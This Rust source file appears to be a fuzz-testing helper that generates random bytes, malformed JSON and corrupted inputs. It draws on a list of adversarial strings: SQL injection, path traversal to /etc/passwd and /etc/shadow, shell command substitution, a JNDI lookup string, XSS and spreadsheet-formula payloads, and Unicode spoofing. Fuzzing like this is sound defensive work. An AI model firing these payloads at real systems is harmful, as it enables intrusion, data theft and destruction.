//! Rubbish with a method: bytes that once broke some program somewhere.

use rand::{Rng, SeedableRng, rngs::StdRng, seq::IndexedRandom};

/// What makes input number `at` of a kind.
pub fn maker(seed: u64, kind: u64, at: u64) -> StdRng {
    let mut bytes = [0; 32];
    bytes[..8].copy_from_slice(&seed.to_le_bytes());
    bytes[8..16].copy_from_slice(&kind.to_le_bytes());
    bytes[16..24].copy_from_slice(&at.to_le_bytes());
    StdRng::from_seed(bytes)
}

/// Texts that mean something to somebody: terminals, printers, databases, shells, browsers, file systems, people.
pub const TRICKS: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mROUGE",
    "\u{1b}]0;titre\u{7}",
    "\u{1b}@\u{1d}V\u{0}",
    "\u{10}\u{4}\u{1}",
    "\u{1d}(k\u{3}\u{0}1Q0",
    "'; DROP TABLE event; --",
    "' OR '1'='1",
    "\" UNION SELECT token_hash FROM device --",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\Windows\\System32",
    "$(reboot)",
    "`id`",
    "| cat /etc/shadow",
    "${jndi:ldap://example.org/a}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "=cmd|'/C calc'!A0",
    "%s%s%s%n",
    "{{7*7}}",
    "\u{202e}VDR\u{202c}",
    "\u{200f}\u{200e}\u{2066}RDV\u{2069}",
    "\u{feff}RDV",
    "RDV\u{200b}-0",
    "ᎡᎠᏙ-0",
    "ＲＤＶ－０",
    "ЯDV-0",
    "İı",
    "ß",
    "\u{0}",
    "\u{7f}",
    "NaN",
    "-0",
    "1e999",
    "18446744073709551616",
    "null",
    "undefined",
    "true",
    "PK1-",
    "PK1-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "PK1-2KCE3IAQEAYQCBSJIVKVEVKZMFWGCY3JNFRWC3DFOIQHG2LHNZQXI5LSMU",
    "PK2-MFRGGZDF",
    "https://suivi.example/t/",
    "https://suivi.example/t/AAAAAAAAAAAAAAAAAAAAAAAAAA",
    "00000000-0000-0000-0000-000000000000",
    "H047",
    "A000 A001",
];

/// Any bytes at all.
pub fn bytes(rng: &mut StdRng, most: usize) -> Vec<u8> {
    let length = rng.random_range(0..=most);
    (0..length).map(|_| rng.random()).collect()
}

/// A text that somebody meant badly, or only letters.
pub fn text(rng: &mut StdRng) -> String {
    let trick = TRICKS.choose(rng).copied().unwrap_or_default();
    match rng.random_range(0..5) {
        0 | 1 => trick.to_owned(),
        2 => format!("{trick}{trick}"),
        3 => trick.repeat(rng.random_range(1..200)),
        _ => (0..rng.random_range(0..40)).map(|_| rng.random_range(' '..='~')).collect(),
    }
}

/// Something in place of a JSON value that should be there.
pub fn json(rng: &mut StdRng) -> String {
    let quoted = serde_json::Value::String(text(rng)).to_string();
    match rng.random_range(0..14) {
        0 => "null".into(),
        1 => "1e999".into(),
        2 => "-1".into(),
        3 => "184467440737095516160".into(),
        4 => "0.1".into(),
        5 => quoted,
        6 => format!("[{quoted}]"),
        7 => format!("{{{quoted}:{quoted}}}"),
        8 => "[".repeat(rng.random_range(1..5000)),
        9 => "{\"a\":".repeat(rng.random_range(1..5000)),
        10 => "\"\\ud800\"".into(),
        11 => format!("\"{}\"", text(rng)),
        12 => "tru".into(),
        _ => String::new(),
    }
}

/// Some bytes of something that was right are other ones now, are missing, or stand there twice.
pub fn spoiled(rng: &mut StdRng, right: &[u8]) -> Vec<u8> {
    let mut spoiled = right.to_vec();
    for _ in 0..rng.random_range(1..4) {
        let at = rng.random_range(0..=spoiled.len());
        match rng.random_range(0..5) {
            0 if at < spoiled.len() => spoiled[at] = rng.random(),
            1 => spoiled.truncate(at),
            2 => spoiled.insert(at, rng.random()),
            3 => {
                let again = spoiled[at..].to_vec();
                spoiled.extend(again);
            }
            _ => {
                let trick = TRICKS.choose(rng).copied().unwrap_or_default();
                spoiled.splice(at..at, trick.bytes());
            }
        }
    }
    spoiled
}
